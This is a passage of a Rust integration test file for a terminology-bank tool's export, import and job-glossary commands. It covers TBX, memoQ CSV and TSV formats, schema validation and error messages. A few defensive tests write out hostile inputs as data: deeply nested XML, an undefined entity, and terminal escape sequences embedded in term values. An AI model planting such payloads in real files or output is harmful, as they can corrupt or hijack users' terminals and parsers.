//! `membank terms`: export (TBX 2008 and 2019 valid against the TBX-Basic
//! schemas, memoQ CSV, Supervertaler TSV), import (shown, written only
//! with `--yes`, never over an existing article) and the job glossary.

mod support;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/terms")
        .join(name)
}

fn run(args: &[&str]) -> Output {
    support::membank()
        .args(args)
        .output()
        .expect("membank runs")
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn json(args: &[&str]) -> (serde_json::Value, Option<i32>) {
    support::json_of(&run(args))
}

#[allow(clippy::too_many_arguments)]
fn term(
    root: &Path,
    source: &str,
    target: &str,
    status: &str,
    clients: &[&str],
    domain: Option<&str>,
    date: &str,
    note: &str,
) {
    let clients: Vec<String> = clients.iter().map(|c| format!("\"[[{c}]]\"")).collect();
    let mut text = format!(
        "---\nterm_source: \"{source}\"\nterm_target: \"{target}\"\nsource_lang: \"en-US\"\n\
         target_lang: \"nl-BE\"\n"
    );
    if let Some(d) = domain {
        text.push_str(&format!("domain: \"[[{d}]]\"\n"));
    }
    if !clients.is_empty() {
        text.push_str(&format!("clients: [{}]\n", clients.join(", ")));
    }
    text.push_str(&format!(
        "status: \"{status}\"\nlast_updated: {date}\n---\n# {source} → {target}\n\n{note}\n"
    ));
    let path = root.join(format!("02_TERMINOLOGY/{source} → {target}.md"));
    fs::write(path, text).unwrap();
}

/// A new bank made by `membank init`.
fn empty_bank(dir: &Path, name: &str) -> PathBuf {
    let root = dir.join(name);
    let out = run(&["init", root.to_str().unwrap()]);
    assert!(out.status.success(), "{out:?}");
    root
}

/// A bank with terms of every status, for two clients and none.
fn bank(dir: &Path) -> PathBuf {
    let root = empty_bank(dir, "bank");
    let acme = ["Acme Corporation"];
    term(
        &root,
        "compliance",
        "naleving",
        "approved",
        &acme,
        Some("Legal"),
        "2026-01-15",
        "Regulatory compliance & <audits>.",
    );
    term(
        &root,
        "compliance",
        "conformiteit",
        "rejected",
        &acme,
        Some("Legal"),
        "2026-02-01",
        "Reads as conformity.",
    );
    term(
        &root,
        "data controller",
        "verwerkingsverantwoordelijke",
        "approved",
        &[],
        Some("Privacy"),
        "2025-12-01",
        "GDPR article 4.",
    );
    term(
        &root,
        "warranty",
        "garantie",
        "approved",
        &[],
        None,
        "2026-03-03",
        "Consumer products.",
    );
    term(
        &root,
        "warranty",
        "waarborg",
        "approved",
        &[],
        None,
        "2026-03-04",
        "Legal texts.",
    );
    term(
        &root,
        "campaign",
        "campagne",
        "proposed",
        &["Beta", "Acme Corporation"],
        Some("Marketing"),
        "2026-05-05",
        "Marketing.",
    );
    root
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// A TBX export without the article paths, which differ between banks.
fn without_sources(tbx: &str) -> String {
    tbx.lines()
        .filter(|l| !l.starts_with("<admin type=\"source\">"))
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn tbx_export_names_statuses_clients_domains_dates_and_notes() {
    let dir = tempfile::tempdir().unwrap();
    let root = bank(dir.path());
    let out = run(&["terms", "export", s(&root), "--format", "tbx"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let tbx = stdout(&out);
    assert!(tbx.contains("<martif type=\"TBX-Basic\" xml:lang=\"en-US\">"));
    // One entry per concept: compliance's two targets share one.
    assert_eq!(tbx.matches("<termEntry ").count(), 4, "{tbx}");
    let compliance = tbx
        .split("<termEntry ")
        .find(|e| e.contains("<term>compliance</term>"))
        .unwrap();
    for want in [
        "<descrip type=\"subjectField\">Legal</descrip>",
        "<term>naleving</term>\n<termNote type=\"administrativeStatus\">preferredTerm-admn-sts</termNote>\n<admin type=\"customerSubset\">Acme Corporation</admin>",
        "<term>conformiteit</term>\n<termNote type=\"administrativeStatus\">deprecatedTerm-admn-sts</termNote>",
        "<date>2026-01-15</date>",
        "<note>Regulatory compliance &amp; &lt;audits&gt;.</note>",
        "<admin type=\"source\">02_TERMINOLOGY/compliance → naleving.md</admin>",
    ] {
        assert!(compliance.contains(want), "missing {want} in {compliance}");
    }
    assert!(
        tbx.contains("admittedTerm-admn-sts"),
        "proposed terms are admitted"
    );
    let only_acme = stdout(&run(&[
        "terms",
        "export",
        s(&root),
        "--client",
        "Acme Corporation",
        "--status",
        "approved",
    ]));
    assert!(only_acme.contains("<term>naleving</term>"));
    assert!(
        only_acme.contains("<term>garantie</term>"),
        "terms for no client stay"
    );
    assert!(!only_acme.contains("conformiteit"));
    assert!(!only_acme.contains("campagne"));
}

/// xmllint, or a loud note that the schema test could not run.
fn xmllint() -> Option<()> {
    match Command::new("xmllint").arg("--version").output() {
        Ok(_) => Some(()),
        Err(_) => {
            support::skip_loudly(
                "xmllint is not installed, so the TBX export was NOT validated against the \
                 TBX-Basic RELAX NG schemas. Install it (Debian/Ubuntu: apt-get install -y \
                 libxml2-utils)",
            );
            None
        }
    }
}

#[test]
fn tbx_exports_are_valid_against_the_tbx_basic_schemas() {
    if xmllint().is_none() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let root = bank(dir.path());
    let schemas = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/tbx-schemas");
    for (version, schema) in [
        ("2008", "TBXBasicRNGV02.rng"),
        ("2019", "TBXcoreStructV03.rng"),
    ] {
        let file = dir.path().join(format!("export-{version}.tbx"));
        let out = run(&[
            "terms",
            "export",
            s(&root),
            "--tbx-version",
            version,
            "-o",
            s(&file),
        ]);
        assert_eq!(out.status.code(), Some(0), "{out:?}");
        let check = Command::new("xmllint")
            .args(["--noout", "--relaxng"])
            .arg(schemas.join(schema))
            .arg(&file)
            .output()
            .unwrap();
        let text = fs::read_to_string(&file).unwrap();
        assert!(
            check.status.success(),
            "TBX {version} export is not valid: {}\n{text}",
            String::from_utf8_lossy(&check.stderr),
        );
        // The TBX-Basic Schematron rules that concern what is written:
        // a customer subset only in a term, a subject field only in an entry.
        let (term, entry) = match version {
            "2008" => ("tig", "termEntry"),
            _ => ("termSec", "conceptEntry"),
        };
        assert_eq!(
            innermost(&text, "<admin type=\"customerSubset\">"),
            [term],
            "{text}"
        );
        assert_eq!(
            innermost(&text, "<descrip type=\"subjectField\">"),
            [entry],
            "{text}"
        );
    }
}

/// The distinct names of the elements each occurrence of `what` is
/// directly inside (for the one-line-per-element TBX membank writes).
fn innermost(text: &str, what: &str) -> Vec<String> {
    let mut open: Vec<String> = Vec::new();
    let mut found: Vec<String> = Vec::new();
    for line in text.lines() {
        if line.starts_with(what) {
            let parent = open.last().cloned().unwrap_or_default();
            if !found.contains(&parent) {
                found.push(parent);
            }
            continue;
        }
        if let Some(rest) = line.strip_prefix("</") {
            let name = rest.trim_end_matches('>');
            if open.last().map(String::as_str) == Some(name) {
                open.pop();
            }
        } else if let Some(rest) = line.strip_prefix('<') {
            let name: String = rest.chars().take_while(|c| c.is_alphanumeric()).collect();
            if !rest.contains("</") && !rest.ends_with("/>") && !name.is_empty() {
                open.push(name);
            }
        }
    }
    found
}

#[test]
fn csv_and_tsv_exports_have_the_cat_tools_columns() {
    let dir = tempfile::tempdir().unwrap();
    let root = bank(dir.path());
    let csv = stdout(&run(&["terms", "export", s(&root), "--format", "csv"]));
    let header = csv.lines().next().unwrap();
    assert!(
        header.starts_with(
            "Entry_ID,Entry_Subject,Entry_Domain,Entry_ClientID,Entry_ProjectID,Entry_Created,\
         Entry_Creator,Entry_LastModified,Entry_Modifier,Entry_Note,en-US_Def,en-US,Term_Info,\
         Term_Example,Term_Note,nl-BE_Def,nl-BE,Term_Info,Term_Example,Term_Note,nl-BE,Term_Info,\
         Term_Example,Term_Note"
        ),
        "{header}"
    );
    assert!(csv.contains("Beta; Acme Corporation") || csv.contains("Acme Corporation; Beta"));
    let tsv = stdout(&run(&["terms", "export", s(&root), "--format", "tsv"]));
    assert!(tsv.starts_with(
        "\u{FEFF}Source Term\tTarget Term\tPriority\tDomain\tNotes\tProject\tClient\tForbidden\r\n"
    ));
    assert!(
        tsv.contains(
            "compliance\tconformiteit\t1\tLegal\tReads as conformity.\t\tAcme Corporation\tTRUE\r\n"
        ),
        "{tsv}"
    );
}

#[test]
fn export_import_export_keeps_terms_statuses_clients_domains_and_dates() {
    let dir = tempfile::tempdir().unwrap();
    let root = bank(dir.path());
    for version in ["2008", "2019"] {
        let file = dir.path().join(format!("all-{version}.tbx"));
        run(&[
            "terms",
            "export",
            s(&root),
            "--tbx-version",
            version,
            "-o",
            s(&file),
        ]);
        let fresh = empty_bank(dir.path(), &format!("fresh-{version}"));
        let out = run(&["terms", "import", s(&fresh), s(&file), "--yes"]);
        assert_eq!(out.status.code(), Some(0), "{out:?}");
        let first = fs::read_to_string(&file).unwrap();
        let again = stdout(&run(&[
            "terms",
            "export",
            s(&fresh),
            "--tbx-version",
            version,
        ]));
        assert_eq!(without_sources(&again), without_sources(&first));
        // The same file again changes nothing.
        let (v, code) = json(&["terms", "import", s(&fresh), s(&file), "--json"]);
        assert_eq!(code, Some(0));
        assert!(
            v["terms"]
                .as_array()
                .unwrap()
                .iter()
                .all(|t| t["outcome"] == "unchanged")
        );
    }
}

/// Every file under `root` with its bytes.
fn snapshot(root: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                stack.push(p);
            } else if !p.to_string_lossy().contains(".membank") {
                out.push((p.clone(), fs::read(&p).unwrap()));
            }
        }
    }
    out.sort();
    out
}

#[test]
fn import_shows_new_and_conflicting_terms_and_writes_only_with_yes() {
    let dir = tempfile::tempdir().unwrap();
    let root = bank(dir.path());
    let tbx = dir.path().join("incoming.tbx");
    fs::write(
        &tbx,
        r#"<?xml version="1.0"?><martif type="TBX-Basic" xml:lang="en-US"><text><body>
<termEntry id="a"><admin type="customerSubset">Acme Corporation</admin>
<langSet xml:lang="en-US"><tig><term>compliance</term></tig></langSet>
<langSet xml:lang="nl-BE"><tig><term>naleving</term><termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></tig>
<tig><term>inachtneming</term><termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></tig>
<tig><term>conformiteit</term><termNote type="administrativeStatus">admittedTerm-admn-sts</termNote></tig></langSet></termEntry>
<termEntry id="b"><langSet xml:lang="en-US"><tig><term>lawyer</term></tig></langSet>
<langSet xml:lang="nl-BE"><tig><term>advocaat</term></tig></langSet></termEntry>
</body></text></martif>"#,
    )
    .unwrap();
    let before = snapshot(&root);
    let (v, code) = json(&[
        "terms",
        "import",
        s(&root),
        s(&tbx),
        "--domain",
        "Legal",
        "--json",
    ]);
    assert_eq!(code, Some(1), "proposed but not written: {v}");
    assert_eq!(snapshot(&root), before, "nothing is written without --yes");
    let outcomes: Vec<(&str, &str)> = v["terms"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| (t["outcome"].as_str().unwrap(), t["path"].as_str().unwrap()))
        .collect();
    assert_eq!(
        outcomes,
        [
            ("unchanged", "02_TERMINOLOGY/compliance → naleving.md"),
            ("conflict", "02_TERMINOLOGY/compliance → inachtneming.md"),
            (
                "status-differs",
                "02_TERMINOLOGY/compliance → conformiteit.md"
            ),
            ("new", "02_TERMINOLOGY/lawyer → advocaat.md"),
        ]
    );
    assert_eq!(
        v["terms"][1]["existing"][0],
        "02_TERMINOLOGY/compliance → naleving.md"
    );
    let human = stdout(&run(&["terms", "import", s(&root), s(&tbx)]));
    assert!(human.contains("term-conflict"), "{human}");
    assert!(human.contains("Run again with --yes"), "{human}");

    let out = run(&[
        "terms",
        "import",
        s(&root),
        s(&tbx),
        "--domain",
        "Legal",
        "--yes",
    ]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let lawyer = fs::read_to_string(root.join("02_TERMINOLOGY/lawyer → advocaat.md")).unwrap();
    assert!(lawyer.contains("domain: \"[[Legal]]\""), "{lawyer}");
    assert!(
        lawyer.contains(&format!("last_updated: {}", support::TODAY)),
        "{lawyer}"
    );
    let rejected =
        fs::read_to_string(root.join("02_TERMINOLOGY/compliance → conformiteit.md")).unwrap();
    assert!(
        rejected.contains("status: \"rejected\""),
        "an existing article is never rewritten"
    );
    // The conflict it showed is the one the health check now reports.
    let (check, _) = json(&["check", s(&root), "--json"]);
    let text = check.to_string();
    assert!(
        text.contains("term-conflict") && text.contains("inachtneming"),
        "{text}"
    );
}

#[test]
fn another_clients_translation_imports_as_new_and_checks_clean() {
    let dir = tempfile::tempdir().unwrap();
    let root = empty_bank(dir.path(), "bank");
    let acme = ["Acme Corporation"];
    term(
        &root,
        "compliance",
        "naleving",
        "approved",
        &acme,
        None,
        "2026-01-15",
        "",
    );
    let csv = dir.path().join("globex.csv");
    fs::write(&csv, "Source;Target\ncompliance;nakoming\n").unwrap();
    let args = [
        "terms",
        "import",
        s(&root),
        s(&csv),
        "--client",
        "Globex",
        "--pair",
        "en-US:nl-BE",
        "--json",
    ];
    let (v, _) = json(&args);
    assert_eq!(v["terms"][0]["outcome"], "new", "{v}");
    assert_eq!(v["terms"][0]["existing"], serde_json::json!([]), "{v}");
    let out = run(&[args.as_slice(), &["--yes"]].concat());
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    // Two clients, two translations: nothing for the check to report.
    let (check, _) = json(&["check", s(&root), "--json"]);
    assert!(!check.to_string().contains("term-conflict"), "{check}");
}

#[test]
fn memoq_csv_and_a_multiterm_utf16_tbx_are_imported() {
    let dir = tempfile::tempdir().unwrap();
    let root = empty_bank(dir.path(), "b");
    let (v, _) = json(&[
        "terms",
        "import",
        s(&root),
        s(&fixture("memoq.csv")),
        "--json",
    ]);
    let terms = v["terms"].as_array().unwrap();
    assert_eq!(terms.len(), 3, "{v}");
    let nota = &terms[1]["term"];
    assert_eq!(nota["source"], "invoice");
    assert_eq!(nota["target"], "nota");
    assert_eq!(nota["status"], "rejected");
    assert_eq!(nota["clients"][0], "Acme Corporation");
    assert_eq!(nota["domain"], "Legal");
    assert_eq!(nota["last_updated"], "2026-03-04");
    assert_eq!(nota["note"], "Contract law; not \"marketing\"");
    assert_eq!(terms[2]["term"]["last_updated"], support::TODAY);

    let (v, _) = json(&[
        "terms",
        "import",
        s(&root),
        s(&fixture("multiterm.tbx")),
        "--client",
        "Acme Corporation",
        "--json",
    ]);
    let terms = v["terms"].as_array().unwrap();
    assert_eq!(terms.len(), 2, "{v}");
    assert_eq!(terms[0]["term"]["target"], "schadeloosstelling");
    assert_eq!(terms[0]["term"]["status"], "approved");
    assert_eq!(terms[0]["term"]["note"], "In clause 9.");
    assert_eq!(terms[1]["term"]["status"], "rejected");
    assert_eq!(terms[1]["term"]["last_updated"], "2025-10-02");
    assert_eq!(terms[1]["term"]["clients"][0], "Acme Corporation");

    // A third producer: translate-toolkit's TBX, with a DOCTYPE naming an
    // external DTD (never fetched) and no status, client or date.
    let (v, _) = json(&[
        "terms",
        "import",
        s(&root),
        s(&fixture("translate-toolkit.tbx")),
        "--json",
    ]);
    let pairs: Vec<(String, String, String)> = v["terms"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| {
            let t = &t["term"];
            let text = |k: &str| t[k].as_str().unwrap_or_default().to_owned();
            (text("source"), text("target"), text("source_lang"))
        })
        .collect();
    assert_eq!(pairs.len(), 5, "{v}");
    assert!(
        pairs.contains(&("café".into(), "koffiehuis".into(), "en-US".into())),
        "{pairs:?}"
    );
    assert!(
        pairs.contains(&(
            "data controller".into(),
            "verwerkingsverantwoordelijke".into(),
            "en-US".into()
        )),
        "{pairs:?}"
    );
}

#[test]
fn a_tsv_without_languages_needs_the_pair() {
    let dir = tempfile::tempdir().unwrap();
    let root = empty_bank(dir.path(), "b");
    let tsv = dir.path().join("g.tsv");
    fs::write(
        &tsv,
        "Source Term\tTarget Term\tForbidden\ncat\tkat\tFALSE\n",
    )
    .unwrap();
    let out = run(&["terms", "import", s(&root), s(&tsv)]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--pair"));
    let (v, _) = json(&[
        "terms",
        "import",
        s(&root),
        s(&tsv),
        "--pair",
        "en:nl",
        "--json",
    ]);
    assert_eq!(v["terms"][0]["term"]["target_lang"], "nl");
}

#[test]
fn hostile_input_files_give_an_error_not_a_panic() {
    let dir = tempfile::tempdir().unwrap();
    let root = empty_bank(dir.path(), "b");
    let bad = dir.path().join("bad.tbx");
    fs::write(&bad, format!("<martif>{}", "<a>".repeat(5000))).unwrap();
    let out = run(&["terms", "import", s(&root), s(&bad)]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("bad.tbx"), "{err}");
    assert!(!err.contains("panicked"), "{err}");
}

#[test]
fn job_glossary_lists_the_terms_a_file_uses() {
    let dir = tempfile::tempdir().unwrap();
    let root = bank(dir.path());
    let (v, code) = json(&[
        "terms",
        s(&root),
        "--for",
        s(&fixture("job.xlf")),
        "--client",
        "Acme Corporation",
        "--json",
    ]);
    assert_eq!(code, Some(0));
    assert_eq!(v["source_lang"], "en-US");
    let rows: Vec<(String, String, u64, String)> = v["terms"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| {
            (
                t["source"].as_str().unwrap().to_owned(),
                t["target"].as_str().unwrap().to_owned(),
                t["segments"].as_u64().unwrap(),
                t["first_segment"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    let row = |src: &str, tgt: &str| rows.iter().find(|r| r.0 == src && r.1 == tgt).cloned();
    assert_eq!(
        row("compliance", "naleving").map(|r| (r.2, r.3)),
        Some((3, "1".into()))
    );
    assert_eq!(
        row("data controller", "verwerkingsverantwoordelijke").map(|r| (r.2, r.3)),
        Some((2, "1".into()))
    );
    assert_eq!(
        row("warranty", "waarborg").map(|r| (r.2, r.3)),
        Some((3, "3".into()))
    );
    assert!(row("campaign", "campagne").is_none(), "not in the file");

    let (v, _) = json(&["terms", s(&root), "--for", s(&fixture("job.tmx")), "--json"]);
    let campaign = v["terms"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["source"] == "campaign")
        .unwrap_or_else(|| panic!("a proposed term is listed too: {v}"));
    assert_eq!(campaign["first_segment"], "t-11");
    assert_eq!(campaign["status"], "proposed");

    let md = stdout(&run(&[
        "terms",
        s(&root),
        "--for",
        s(&fixture("job.xlf")),
        "--format",
        "md",
    ]));
    assert!(
        md.starts_with("| Source | Target | Status | Clients |"),
        "{md}"
    );
    let tbx = stdout(&run(&[
        "terms",
        s(&root),
        "--for",
        s(&fixture("job2.xlf")),
        "--format",
        "tbx",
    ]));
    assert!(
        tbx.contains("<term>warranty</term>") && !tbx.contains("data controller"),
        "{tbx}"
    );
}

/// A term article the export cannot write (here: no target language) is
/// named on stderr, not dropped without a word; one of another client is
/// not the export's business. With nothing complete, the error lists them.
#[test]
fn an_incomplete_term_article_is_named_when_the_export_leaves_it_out() {
    let dir = tempfile::tempdir().unwrap();
    let root = empty_bank(dir.path(), "b");
    term(
        &root,
        "warranty",
        "waarborg",
        "approved",
        &[],
        None,
        "2026-01-15",
        "x",
    );
    let half = |name: &str, clients: &str| {
        fs::write(
            root.join(format!("02_TERMINOLOGY/{name}.md")),
            format!(
                "---\nterm_source: \"{name}\"\nterm_target: \"traversée\"\n\
                 source_lang: en-US\nclients: [{clients}]\nstatus: approved\n---\n# {name}\n"
            ),
        )
        .unwrap();
    };
    half("crossing", "");
    half("ferry", "\"[[Other Client]]\"");
    fs::write(
        root.join("01_CLIENTS/Acme.md"),
        "---\nclient: Acme\n---\n# Acme\n",
    )
    .unwrap();
    let out = run(&["terms", "export", s(&root), "--format", "csv"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert!(stdout(&out).contains("warranty"));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("02_TERMINOLOGY/crossing.md: left out of the export: it has no target_lang"),
        "{err}"
    );
    assert!(
        err.contains("ferry.md"),
        "no client asked: every one is said: {err}"
    );
    let out = run(&[
        "terms",
        "export",
        s(&root),
        "--format",
        "csv",
        "--client",
        "Acme",
    ]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("crossing.md") && !err.contains("ferry.md"),
        "{err}"
    );

    // A filter that matches nothing is named as such, not the incomplete.
    let out = run(&["terms", "export", s(&root), "--pair", "de-DE:fr-FR"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("no term article matches --pair de-DE:fr-FR") && !err.contains("complete"),
        "{err}"
    );

    fs::remove_file(root.join("02_TERMINOLOGY/warranty → waarborg.md")).unwrap();
    let out = run(&["terms", "export", s(&root), "--format", "tbx"]);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("no term article is complete enough to export") && err.contains("crossing.md"),
        "{err}"
    );
}

/// Each `<file>` of an XLIFF counts for its own pair's terms, as `qa`
/// checks it: the Dutch leaflet term is not counted in the French file.
#[test]
fn a_job_glossary_counts_each_file_of_an_xliff_against_its_own_pair() {
    let demo = concat!(env!("CARGO_MANIFEST_DIR"), "/demo-bank");
    let (v, code) = json(&[
        "terms",
        demo,
        "--for",
        s(&fixture("two-files.xlf")),
        "--json",
    ]);
    assert_eq!(code, Some(0));
    let count = |source: &str| {
        v["terms"]
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["source"] == source)
            .map(|t| (t["segments"].as_u64().unwrap(), t["first_segment"].clone()))
    };
    assert_eq!(
        count("package leaflet"),
        Some((2, serde_json::json!("leaflet-nl.docx › 1"))),
        "{v}"
    );
    assert_eq!(
        count("boarding pass"),
        Some((1, serde_json::json!("leaflet-fr.docx › 1"))),
        "{v}"
    );
}

/// A job glossary of no term is refused in the CAT formats, naming the
/// file, as `terms export` refuses an export of no term: an empty TBX is
/// not valid TBX-Basic. The readable listing just says there are none.
#[test]
fn a_job_glossary_with_no_term_writes_no_empty_tbx() {
    let dir = tempfile::tempdir().unwrap();
    let root = empty_bank(dir.path(), "b");
    for format in ["tbx", "csv", "tsv"] {
        let out = run(&[
            "terms",
            s(&root),
            "--for",
            s(&fixture("job.xlf")),
            "--format",
            format,
        ]);
        assert_eq!(out.status.code(), Some(2), "{format}: {out:?}");
        assert!(out.stdout.is_empty(), "{format}: {}", stdout(&out));
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains("no term of the bank occurs in") && err.contains("job.xlf"),
            "{format}: {err}"
        );
    }
    let out = run(&["terms", s(&root), "--for", s(&fixture("job.xlf"))]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert!(stdout(&out).contains("0 term(s) of the bank occur in it"));
}

#[test]
fn global_flags_before_terms_are_taken_and_mixing_export_with_a_bank_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let root = bank(dir.path());
    let out = run(&[
        "--today",
        "2026-06-01",
        "terms",
        "export",
        s(&root),
        "--format",
        "csv",
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout(&out).contains("naleving"), "{}", stdout(&out));

    let job = fixture("job.xlf");
    let out = run(&["terms", s(&root), "--for", s(&job), "export"]);
    assert_eq!(out.status.code(), Some(2));
}

/// `membank terms import BANK FILE --yes` of `text` saved as `name`:
/// the run, its standard error, and whether the bank was left as it was.
fn import_refused(name: &str, text: &[u8], extra: &[&str]) -> (Output, String, bool) {
    let dir = tempfile::tempdir().unwrap();
    let root = empty_bank(dir.path(), "b");
    let before = snapshot(&root);
    let file = dir.path().join(name);
    fs::write(&file, text).unwrap();
    let mut args = vec!["terms", "import", s(&root), s(&file), "--yes"];
    args.extend_from_slice(extra);
    let out = run(&args);
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    let same = snapshot(&root) == before;
    (out, err, same)
}

#[test]
fn a_csv_quote_never_closed_is_an_error_naming_its_line() {
    let (out, err, same) = import_refused(
        "g.csv",
        b"Source Term,Target Term\ninvoice,factuur\n\"broken,x\nbill,rekening\n",
        &["--pair", "en-US:nl-BE"],
    );
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("g.csv") && err.contains("line 3"), "{err}");
    assert!(same, "nothing is written");
}

#[test]
fn hostile_xml_and_csv_are_refused_naming_the_file_and_line() {
    let tbx = |term: &str| {
        format!(
            "<martif xml:lang=\"en-US\"><text><body>\n<termEntry>\n\
             <langSet xml:lang=\"en-US\"><tig><term>acme</term></tig></langSet>\n\
             <langSet xml:lang=\"nl-BE\"><tig><term>{term}</term></tig></langSet>\n\
             </termEntry></body></text></martif>\n"
        )
    };
    for (name, text, want) in [
        ("entity.tbx", tbx("Acme &co;"), "line 4"),
        ("escape.tbx", tbx("x\u{1b}]0;pwned\u{7}"), "line 4"),
        (
            "escape.csv",
            "Source Term,Target Term\ninvoice,fac\u{1b}[2Jtuur\n".to_owned(),
            "line 2",
        ),
    ] {
        let (out, err, same) = import_refused(name, text.as_bytes(), &["--pair", "en-US:nl-BE"]);
        assert_eq!(out.status.code(), Some(2), "{name}: {err}");
        assert!(err.contains(name) && err.contains(want), "{name}: {err}");
        assert!(
            !err.contains('\u{1b}'),
            "{name}: the message is safe to show"
        );
        assert!(same, "{name}: nothing is written");
    }
}

#[test]
fn an_export_writes_only_real_dates_and_warns_of_the_others() {
    let dir = tempfile::tempdir().unwrap();
    let root = empty_bank(dir.path(), "b");
    term(
        &root,
        "invoice",
        "factuur",
        "approved",
        &[],
        None,
        "2026-3-2",
        "A note.",
    );
    term(
        &root,
        "bill",
        "rekening",
        "approved",
        &[],
        None,
        "2026-13-45",
        "A note.",
    );
    let out = run(&["terms", "export", s(&root), "--format", "tbx"]);
    assert_eq!(out.status.code(), Some(0));
    let tbx = stdout(&out);
    assert!(tbx.contains("<date>2026-03-02</date>"), "{tbx}");
    assert!(!tbx.contains("13-45"), "{tbx}");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("warning") && err.contains("bill → rekening.md") && err.contains("2026-13-45"),
        "{err}"
    );
    assert!(
        !err.contains("invoice"),
        "a padded date is no problem: {err}"
    );
    let csv = stdout(&run(&["terms", "export", s(&root), "--format", "csv"]));
    assert!(csv.contains("3/2/2026") && !csv.contains("13/45"), "{csv}");
}

#[test]
fn a_bank_with_both_directions_of_a_pair_round_trips_as_it_was() {
    let dir = tempfile::tempdir().unwrap();
    let root = empty_bank(dir.path(), "b");
    term(
        &root,
        "invoice",
        "factuur",
        "approved",
        &[],
        None,
        "2026-01-15",
        "A note.",
    );
    fs::write(
        root.join("02_TERMINOLOGY/offerte → quotation.md"),
        "---\nterm_source: \"offerte\"\nterm_target: \"quotation\"\nsource_lang: \"nl-BE\"\n\
         target_lang: \"en-US\"\nstatus: \"approved\"\nlast_updated: 2026-01-15\n---\n\
         # offerte → quotation\n\nA note.\n",
    )
    .unwrap();
    let directions = |bank: &Path| {
        let text = stdout(&run(&["terms", "export", s(bank), "--format", "tsv"]));
        let mut rows: Vec<String> = text
            .lines()
            .skip(1)
            .map(|l| l.split('\t').take(2).collect::<Vec<_>>().join(" → "))
            .collect();
        rows.sort();
        rows
    };
    assert_eq!(
        directions(&root),
        ["invoice → factuur", "offerte → quotation"]
    );
    for (format, version) in [("tbx", "2008"), ("tbx", "2019"), ("csv", "2008")] {
        let file = dir.path().join(format!("all-{version}.{format}"));
        let out = run(&[
            "terms",
            "export",
            s(&root),
            "--format",
            format,
            "--tbx-version",
            version,
            "-o",
            s(&file),
        ]);
        assert_eq!(out.status.code(), Some(0), "{out:?}");
        let fresh = empty_bank(dir.path(), &format!("fresh-{format}-{version}"));
        let out = run(&["terms", "import", s(&fresh), s(&file), "--yes"]);
        assert_eq!(out.status.code(), Some(0), "{out:?}");
        assert_eq!(
            directions(&fresh),
            ["invoice → factuur", "offerte → quotation"],
            "{format} {version}"
        );
        let back = fs::read_to_string(fresh.join("02_TERMINOLOGY/offerte → quotation.md")).unwrap();
        assert!(back.contains("source_lang: \"nl-BE\""), "{back}");
    }
}

#[test]
fn a_csv_round_trip_keeps_each_terms_own_note() {
    let dir = tempfile::tempdir().unwrap();
    let root = bank(dir.path());
    let csv = dir.path().join("all.csv");
    let out = run(&[
        "terms",
        "export",
        s(&root),
        "--format",
        "csv",
        "-o",
        s(&csv),
    ]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let fresh = empty_bank(dir.path(), "fresh");
    let out = run(&["terms", "import", s(&fresh), s(&csv), "--yes"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let article = |name: &str| fs::read_to_string(fresh.join("02_TERMINOLOGY").join(name)).unwrap();
    let rejected = article("compliance → conformiteit.md");
    assert!(rejected.contains("\nReads as conformity.\n"), "{rejected}");
    let approved = article("compliance → naleving.md");
    assert!(
        approved.contains("\nRegulatory compliance & <audits>.\n"),
        "{approved}"
    );
}

#[test]
fn an_export_to_a_folder_or_into_a_missing_folder_says_which() {
    let dir = tempfile::tempdir().unwrap();
    let root = bank(dir.path());
    let stderr = |out: &Output| String::from_utf8_lossy(&out.stderr).into_owned();
    let out = run(&["terms", "export", s(&root), "-o", s(dir.path())]);
    assert_eq!(out.status.code(), Some(2));
    let said = stderr(&out);
    assert!(
        said.contains("is a folder: -o names the file to write"),
        "{said}"
    );
    let missing = dir.path().join("no such folder").join("terms.tbx");
    let out = run(&["terms", "export", s(&root), "-o", s(&missing)]);
    assert_eq!(out.status.code(), Some(2));
    let said = stderr(&out);
    assert!(said.contains("no such folder does not exist"), "{said}");
    assert!(
        !said.contains("terms.tbx."),
        "no temporary file is named: {said}"
    );
